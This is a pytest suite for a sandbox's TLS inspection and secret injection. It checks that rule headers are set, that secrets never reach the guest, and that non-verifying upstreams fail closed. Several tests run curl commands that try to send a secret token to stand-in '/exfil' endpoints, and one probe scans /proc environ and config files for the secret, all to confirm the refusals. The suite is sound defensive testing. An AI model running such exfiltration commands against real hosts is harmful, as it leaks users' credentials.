"""TLS inspection with E2B's `network.rules`, through the official SDK: for a host with a
rule, hutch ends the guest's TLS with the sandbox's own CA (which the guest's curl,
Python and Node trust) and sets the rule's headers on every request, a secret's
`${e2b.secrets.NAME}` replaced by its value on the host, so the guest never holds it.
Hosts without a rule keep their own certificate; a Host header that is not the TLS
name is 421; an upstream whose certificate does not verify fails closed; QUIC to an
inspected host is refused so clients fall back to TCP. The HTTPS hosts are loopback
listeners behind the test map (tests/networld.py) that answer with what they received,
the Authorization header only as its SHA-256. One sandbox serves every check.

The guest's environment holds the secret's placeholder (`API_TOKEN`), never its value: a
client (curl, urllib, requests, httpx, Node's fetch, each with its own defaults) that
sends it in the header inspect.test's rule sets gets the rule's value there;
hutch's own binding (`secrets`, `hutch run --secret`) fills it in where the guest sends
it to a bound host in a credential header; a request or flow that carries it anywhere
else (other.test, inspected without the secret; plain HTTP) is refused or reset and
logged."""

import hashlib
import io
import json
import os
import secrets
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest
from e2b import CommandExitException, Sandbox, Secret

from conftest import HUTCH, new_home, wait_until
from networld import OTHER, UNTRUSTED, WEB

SECRET_NAME = "hutch-inspection-token"
SECRET_VALUE = "sk-hutch-inspect-" + secrets.token_hex(12)
# What inspect.test must receive, whatever the guest sent.
INSPECTED = {
    "server": "inspect",
    "host": "inspect.test",
    "x_hutch_test": "literal-value",
    "authorization_sha256": hashlib.sha256(f"Bearer {SECRET_VALUE}".encode()).hexdigest(),
}
SYSTEM_BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
# The image's bundle with the sandbox's CA appended, in tmpfs, bind-mounted over SYSTEM_BUNDLE.
HUTCH_BUNDLE = "/run/hutch/ca-bundle.crt"

# Runs inside the guest: `python3 /tmp/probe.py NAME JSON_ARGS` prints one JSON value.
PROBE = r'''
import errno, hashlib, http.client, json, os, socket, ssl, stat, sys, time, urllib.request

def fetch(url, headers):
    # The guest's own trust store, as any Python program gets it (SSL_CERT_FILE).
    with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as r:
        return json.loads(r.read())

def fetch_env(url, header, prefix, var):
    return fetch(url, {header: prefix + os.environ[var]})

def requests_env(url, header, prefix, var):
    # The client's own defaults: its CA bundle comes from REQUESTS_CA_BUNDLE.
    import requests
    return requests.get(url, headers={header: prefix + os.environ[var]}, timeout=30).json()

def httpx_env(url, header, prefix, var):
    # Its CA bundle comes from SSL_CERT_FILE (trust_env).
    import httpx
    return httpx.get(url, headers={header: prefix + os.environ[var]}, timeout=30).json()

def peer(host, path, headers):
    # Not verified: plain.test's real certificate is signed by a CA the guest does not
    # trust; the test compares its hash with the one the host served.
    conn = http.client.HTTPSConnection(host, timeout=30, context=ssl._create_unverified_context())
    conn.request("GET", path, headers=headers)
    der = conn.sock.getpeercert(binary_form=True)
    body = json.loads(conn.getresponse().read())
    conn.close()
    return {"cert_sha256": hashlib.sha256(der).hexdigest(), "body": body}

def websocket(host, path, headers, message):
    # A WebSocket's opening handshake, then raw bytes, over the guest's own trust store.
    head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    head += "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    with socket.create_connection((host, 443), timeout=30) as raw:
        with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:
            s.sendall(head.encode())
            got = b""
            while b"\r\n\r\n" not in got and (chunk := s.recv(4096)):
                got += chunk
            answer, _, echo = got.partition(b"\r\n\r\n")
            status, *lines = answer.decode().split("\r\n")
            s.sendall(message.encode())
            while len(echo) < len(message) + 5 and (chunk := s.recv(4096)):
                echo += chunk
    seen = dict(line.lower().split(": ", 1) for line in lines)
    return {"status": status, "x_hutch_test": seen.get("x-seen-hutch-test"),
            "authorization_sha256": seen.get("x-seen-authorization-sha256"), "echo": echo.decode()}

def udp(host, port):
    # What the network sees of QUIC's first flight: a datagram to port 443.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((host, port))
        t = time.monotonic()
        s.send(b"\xc0quic-initial")
        try:
            return {"answer": s.recv(65536).decode(errors="replace")}
        except OSError as e:
            return {"err": errno.errorcode.get(e.errno) or type(e).__name__, "ms": round((time.monotonic() - t) * 1000)}

def leaks(reversed_value):
    # The value comes reversed, so this process's own argv does not hold it.
    needle = reversed_value[::-1].encode()
    hits, proc, scanned = [], 0, []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{part}", "rb").read()
            except OSError:
                continue  # gone since the listing
            proc += 1
            if needle in data:
                hits.append(f"/proc/{pid}/{part}")
    def scan(path, follow=True):
        try:
            st = os.stat(path) if follow else os.lstat(path)
            if not stat.S_ISREG(st.st_mode) or st.st_size > 8 << 20:
                return
            data = open(path, "rb").read()
        except OSError:
            return  # gone since the listing
        scanned.append(path)
        if needle in data:
            hits.append(path)
    # The trust store and hutch's CA by name (links followed), then every small file where
    # configuration and environment live.
    for path in ("/etc/ssl/certs/ca-certificates.crt", "/run/hutch/ca-bundle.crt", "/run/hutch/ca.pem"):
        scan(path)
    ca_files = list(scanned)
    for top in ("/etc", "/run", "/home", "/root", "/tmp", "/usr/local"):
        for where, _, names in os.walk(top):
            for name in names:
                scan(os.path.join(where, name), follow=False)
    env = {k: os.environ.get(k) for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS")}
    return {"hits": sorted(set(hits)), "proc": proc, "files": len(scanned), "env": env, "ca_files": ca_files}

print(json.dumps(globals()[sys.argv[1]](*json.loads(sys.argv[2]))))
'''

# Node 18's global fetch (undici), which reads NODE_EXTRA_CA_CERTS.
NODE_FETCH = 'fetch("https://inspect.test/node").then(r => r.text()).then(t => process.stdout.write(t))'
# The same with the guest's own placeholder where API clients put keys.
NODE_FETCH_ENV = ('fetch("https://inspect.test/env-node", {headers: {"Authorization": "Bearer " + process.env.API_TOKEN}})'
                  '.then(r => r.text()).then(t => process.stdout.write(t))')


@pytest.fixture(scope="module")
def secret(server):
    info = Secret.create(SECRET_NAME, SECRET_VALUE)
    yield info
    assert Secret.destroy(info.secret_id)


@pytest.fixture(scope="module")
def sbx(server, net_world, secret):
    network = {
        "allow_out": ["inspect.test", "plain.test", "untrusted.test", "other.test", "example.test"],
        "deny_out": ["0.0.0.0/0"],
        "rules": {
            "inspect.test": [{"transform": {"headers": {
                "X-Hutch-Test": "literal-value",
                "Authorization": f"Bearer {Secret.fill(secret.name)}",
            }}}],
            "untrusted.test": [{"transform": {"headers": {"X-Hutch-Test": "x"}}}],
            "other.test": [{}],
        },
    }
    s = Sandbox.create("base", network=network, envs={"API_TOKEN": Secret.fill(secret.name)}, timeout=900)
    try:
        s.files.write("/tmp/probe.py", PROBE)
        yield s
    finally:
        s.kill()


def guest(sbx, command: str, user: str = "user") -> tuple[int, str, str]:
    """Runs `command` in the guest: its exit code, stdout and stderr, whatever the code."""
    try:
        r = sbx.commands.run(command, user=user, timeout=180)
    except CommandExitException as e:
        return e.exit_code, e.stdout, e.stderr
    return r.exit_code, r.stdout, r.stderr


def probe_command(name: str, *args) -> str:
    arg = json.dumps(list(args)).replace("'", "'\\''")
    return f"python3 /tmp/probe.py {name} '{arg}'"


def json_lines(out: str) -> list[dict]:
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def fields(got: dict, like: dict) -> dict:
    """`got` cut down to `like`'s keys, to compare the two."""
    return {k: got.get(k) for k in like}


def test_curl_python_and_node_get_the_rules_headers_over_the_guests_own(sbx):
    code, out, err = guest(sbx, " && ".join([
        "curl -sS --max-time 30 https://inspect.test/curl",
        # The guest's own X-Hutch-Test and Authorization are replaced, not joined.
        probe_command("fetch", "https://inspect.test/urllib", {"X-Hutch-Test": "guest", "Authorization": "Bearer guest"}),
        f"node -e '{NODE_FETCH}'",
        # Two requests on one connection (curl keeps it open when hutch does): both rewritten.
        "curl -sS --max-time 30 -H 'X-Hutch-Test: guest' -H 'Authorization: Bearer guest' https://inspect.test/again-1 https://inspect.test/again-2",
    ]))
    assert code == 0, err
    got = json_lines(out)
    assert [g["path"] for g in got] == ["/curl", "/urllib", "/node", "/again-1", "/again-2"], out
    for g in got:
        assert fields(g, INSPECTED) == INSPECTED, g


def test_the_secret_reaches_the_host_but_nothing_the_guest_or_api_shows(server, sbx):
    code, out, err = guest(sbx, "curl -sS --max-time 30 -o /dev/null https://inspect.test/before-scan && "
                           + probe_command("leaks", SECRET_VALUE[::-1]), user="root")
    assert code == 0, err
    r = json.loads(out)
    assert r["hits"] == [], f"the secret's value is in the guest: {r['hits']}"
    # The scan read what it should have: every process, the trust store and hutch's CA.
    assert r["proc"] >= 20 and r["files"] >= 100, r
    assert r["ca_files"] == [SYSTEM_BUNDLE, HUTCH_BUNDLE, "/run/hutch/ca.pem"], r
    assert r["env"] == {"SSL_CERT_FILE": HUTCH_BUNDLE, "REQUESTS_CA_BUNDLE": HUTCH_BUNDLE,
                        "CURL_CA_BUNDLE": HUTCH_BUNDLE, "NODE_EXTRA_CA_CERTS": "/run/hutch/ca.pem"}, r["env"]
    api = server.api()
    for path in (f"/sandboxes/{sbx.sandbox_id}", f"/sandboxes/{sbx.sandbox_id}/network"):
        view = api.get(path)
        assert view.status_code == 200 and SECRET_VALUE not in view.text, path
    assert SECRET_VALUE not in (server.home / "serve.log").read_text(errors="replace")


def test_an_inspected_host_shows_hutchs_certificate_and_others_their_own(sbx, net_world):
    headers = {"X-Hutch-Test": "guest"}
    code, out, err = guest(sbx, probe_command("peer", "inspect.test", "/peer", headers) + " && "
                           + probe_command("peer", "plain.test", "/peer", headers))
    assert code == 0, err
    inspected, plain = json_lines(out)
    assert inspected["cert_sha256"] != net_world.tls_cert_sha256["inspect.test"], "hutch must end an inspected host's TLS"
    assert fields(inspected["body"], INSPECTED) == INSPECTED, inspected
    # No rule: the bytes pass untouched, the server's own certificate and headers.
    assert plain["cert_sha256"] == net_world.plain_cert_sha256
    assert plain["body"] == {"server": "plain", "path": "/peer", "query_sha256": None, "host": "plain.test", "x_hutch_test": "guest",
                             "authorization_sha256": None, "x_api_key_sha256": None}


def test_a_websocket_to_an_inspected_host_gets_the_rule_then_carries_bytes(sbx):
    code, out, err = guest(sbx, probe_command("websocket", "inspect.test", "/ws", {"X-Hutch-Test": "guest"}, "hello"))
    assert code == 0, err
    r = json.loads(out)
    assert r["status"].startswith("HTTP/1.1 101"), r
    # The upgrade request had the rule's headers, the secret filled in; then bytes flow.
    assert (r["x_hutch_test"], r["authorization_sha256"]) == (INSPECTED["x_hutch_test"], INSPECTED["authorization_sha256"]), r
    assert r["echo"] == "echo:hello", r


def test_a_host_header_other_than_the_tls_name_is_421_and_not_forwarded(sbx, net_world):
    code, out, err = guest(sbx, "curl -sS --max-time 30 -o /dev/null -w '%{http_code}' -H 'Host: plain.test' https://inspect.test/misdirected")
    assert (code, out) == (0, "421"), err
    assert [r for r in net_world.tls_seen if r["path"] == "/misdirected"] == []


def test_an_upstream_whose_certificate_does_not_verify_fails_closed(server, sbx, net_world):
    code, out, err = guest(sbx, "curl -sS --max-time 30 https://untrusted.test/untrusted")
    # Refused at the TLS handshake or reset, not a name or connection refusal (6, 7) or a
    # hang (28), and never an answer.
    assert code not in (0, 6, 7, 28), (code, out, err)
    assert net_world.tls_requests("untrusted") == []

    def denial():
        log = server.api().get(f"/sandboxes/{sbx.sandbox_id}/network").json()["log"]
        return [d for d in log["denials"] if (d.get("ip") == UNTRUSTED or d.get("name") == "untrusted.test")
                and "certificate" in d["message"].lower()]
    wait_until(denial, "a denial of untrusted.test naming its certificate in the network log", timeout=15,
               detail=lambda: server.api().get(f"/sandboxes/{sbx.sandbox_id}/network").json()["log"]["denials"])


def test_a_client_that_brings_its_own_ca_list_fails_closed_with_a_log_line(server, sbx, net_world):
    # As a client that pins or ships its own roots: it trusts one public root, not hutch's CA.
    code, out, err = guest(sbx, "curl -sS --max-time 30 --cacert /usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt https://inspect.test/pinned")
    assert code == 60, (code, out, err)  # curl: the peer's certificate did not verify
    assert [r for r in net_world.tls_seen if r["path"] == "/pinned"] == []
    wait_until(lambda: any(d.get("name") == "inspect.test" and "refused hutch's certificate" in d["message"] for d in denials(server, sbx)),
               "the guest's refusal of hutch's certificate in the network log", timeout=15, detail=lambda: denials(server, sbx))


def test_quic_to_an_inspected_host_is_refused(sbx, net_world):
    before = net_world.violation_lines()
    code, out, err = guest(sbx, probe_command("udp", "inspect.test", 443))
    assert code == 0, err
    r = json.loads(out)
    # Port unreachable at once, so clients fall back to TCP; and nothing was dialed.
    assert r.get("err") == "ECONNREFUSED" and r["ms"] < 1000, r
    assert net_world.violation_lines() == before


def denials(server, sbx) -> list[dict]:
    return server.api().get(f"/sandboxes/{sbx.sandbox_id}/network").json()["log"]["denials"]


# Python HTTP clients the base template lacks, from the tests' own environment (pure
# Python, or built for the guest's Python 3.11 and glibc), so the guest needs no index.
GUEST_PACKAGES = ("requests", "urllib3", "charset_normalizer", "idna", "certifi",
                  "httpx", "httpcore", "h11", "anyio", "typing_extensions.py")


def python_clients_tar() -> bytes:
    import requests
    site = Path(requests.__file__).parents[1]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name in GUEST_PACKAGES:
            tar.add(site / name, arcname=name, filter=lambda t: None if "__pycache__" in t.name else t)
    return out.getvalue()


def test_a_client_sending_the_env_placeholder_gets_the_rules_value(sbx, secret):
    sbx.files.write("/tmp/pylib.tar", python_clients_tar())
    env_client = lambda name, path: ("PYTHONPATH=/tmp/pylib "
                                     + probe_command(name, f"https://inspect.test/{path}", "Authorization", "Bearer ", "API_TOKEN"))
    code, out, err = guest(sbx, " && ".join([
        "mkdir -p /tmp/pylib && tar -xf /tmp/pylib.tar -C /tmp/pylib",
        "printenv API_TOKEN",
        'curl -sS --max-time 30 -H "Authorization: Bearer $API_TOKEN" https://inspect.test/env-curl',
        probe_command("fetch_env", "https://inspect.test/env-urllib", "Authorization", "Bearer ", "API_TOKEN"),
        env_client("requests_env", "env-requests"),
        env_client("httpx_env", "env-httpx"),
        f"node -e '{NODE_FETCH_ENV}'",
    ]))
    assert code == 0, err
    placeholder, *answers = out.splitlines()
    assert placeholder == Secret.fill(secret.name)
    got = json_lines("\n".join(answers))
    assert [g["path"] for g in got] == ["/env-curl", "/env-urllib", "/env-requests", "/env-httpx", "/env-node"], out
    for g in got:
        assert fields(g, INSPECTED) == INSPECTED, g


def test_the_placeholder_sent_anywhere_else_is_refused_and_logged(server, sbx, net_world):
    # other.test is inspected, but the secret is not bound to it; nor is it to
    # inspect.test outside the header its rule sets: 403 from hutch, nothing sent.
    for host in ("other.test", "inspect.test"):
        code, out, err = guest(sbx, f'curl -sS --max-time 30 -o /dev/null -w "%{{http_code}}" -H "X-Api-Key: $API_TOKEN" https://{host}/exfil')
        assert (code, out) == (0, "403"), (host, code, out, err)
    assert [r for r in net_world.tls_seen if r["path"] == "/exfil"] == []
    # Plain HTTP, URL-encoded in the query: the connection is reset before the request leaves.
    code, out, err = guest(sbx, 'curl -sS --max-time 30 -G --data-urlencode "k=$API_TOKEN" http://example.test/exfil')
    assert code != 0 and "echo" not in out, (code, out, err)
    assert not [p for p in net_world.web.paths if p.startswith("/exfil")], net_world.web.paths

    def logged():
        d = denials(server, sbx)
        return (any(x.get("ip") == OTHER and "not bound to other.test" in x["message"] for x in d)
                and any(x["reason"]["kind"] == "placeholder" and x.get("ip") == WEB and x.get("port") == 80 for x in d))
    wait_until(logged, "both refusals in the network log", timeout=15, detail=lambda: denials(server, sbx))
    assert SECRET_VALUE not in json.dumps(denials(server, sbx))


def test_what_a_pause_saves_of_the_sandbox_holds_no_secret(server, sbx):
    """The guest's memory and disk, as a pause writes them to the host, after the
    inspected requests above and one more: placeholders at most, never the value."""
    code, _, err = guest(sbx, 'curl -sS -o /dev/null -H "Authorization: Bearer $API_TOKEN" https://inspect.test/before-pause')
    assert code == 0, err
    assert sbx.pause() is True
    try:
        needle, checked = SECRET_VALUE.encode(), []
        for path in sorted((server.home / "sandboxes" / sbx.sandbox_id).rglob("*")):
            if not path.is_file() or path.is_symlink():
                continue
            checked.append(path.name)
            with open(path, "rb") as f:
                tail = b""
                while chunk := f.read(8 << 20):
                    assert needle not in tail + chunk, f"the secret's value is in {path}"
                    tail = chunk[-len(needle):]
        assert "memory.state" in checked, checked
    finally:
        Sandbox.connect(sbx.sandbox_id)


def test_hutchs_own_binding_sets_the_variable_and_outlives_a_network_update(server, secret, net_world):
    """hutch's SDK binds the secret to plain.test (no rule there): the variable holds the
    placeholder, plain.test becomes inspected, and an update of the egress rules keeps
    the binding."""
    import hutch
    s = hutch.Sandbox.create("base", egress=["allow@plain.test:tcp:443"], timeout=300,
                             secrets={"PLAIN_TOKEN": {"name": secret.name, "hosts": ["plain.test"], "query": ["key"]}})
    try:
        want = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
        for n in (1, 2):
            r = s.commands.run(f'printenv PLAIN_TOKEN && curl -sS --max-time 30 -H "X-Api-Key: $PLAIN_TOKEN" https://plain.test/bound-{n}'
                               ' && curl -sS --max-time 30 -G --data-urlencode "key=$PLAIN_TOKEN" https://plain.test/query', timeout=120)
            placeholder, header, query = r.stdout.splitlines()
            assert placeholder == Secret.fill(secret.name)
            assert json.loads(header)["x_api_key_sha256"] == want, header
            # The binding names the query parameter `key`: percent-encoded by curl, filled in by hutch.
            assert json.loads(query)["query_sha256"] == hashlib.sha256(f"key={SECRET_VALUE}".encode()).hexdigest(), query
            s.update_network(["allow@plain.test:tcp:443", "allow@inspect.test:tcp:443"])
    finally:
        s.kill()


def test_hutch_run_secret_takes_the_value_from_the_shell_and_gives_the_guest_a_placeholder(net_world):
    home = new_home("hutch-run-secret-")
    env = dict(os.environ, HUTCH_HOME=str(home), HUTCH_NET_TEST_MAP=str(net_world.map), PLAIN_TOKEN=SECRET_VALUE)
    try:
        ran = subprocess.run(
            [str(HUTCH), "run", "--accel", "tcg", "--net", "allow@plain.test:tcp:443", "--upstream-ca", str(net_world.tls_ca),
             "--secret", "PLAIN_TOKEN@plain.test", "--", "sh", "-c",
             'printenv PLAIN_TOKEN; curl -sS --max-time 30 -H "X-Api-Key: $PLAIN_TOKEN" https://plain.test/run'],
            env=env, capture_output=True, text=True, timeout=300)
        assert ran.returncode == 0, ran.stderr
        placeholder, answer = ran.stdout.splitlines()
        assert placeholder == "${e2b.secrets.plain_token}"
        assert json.loads(answer)["x_api_key_sha256"] == hashlib.sha256(SECRET_VALUE.encode()).hexdigest(), answer
        # A binding without a host says so before anything starts.
        bad = subprocess.run([str(HUTCH), "run", "--secret", "PLAIN_TOKEN", "--", "true"], env=env, capture_output=True, text=True, timeout=60)
        assert bad.returncode != 0 and "names no host" in bad.stderr and SECRET_VALUE not in bad.stderr, bad.stderr
    finally:
        shutil.rmtree(home, ignore_errors=True)
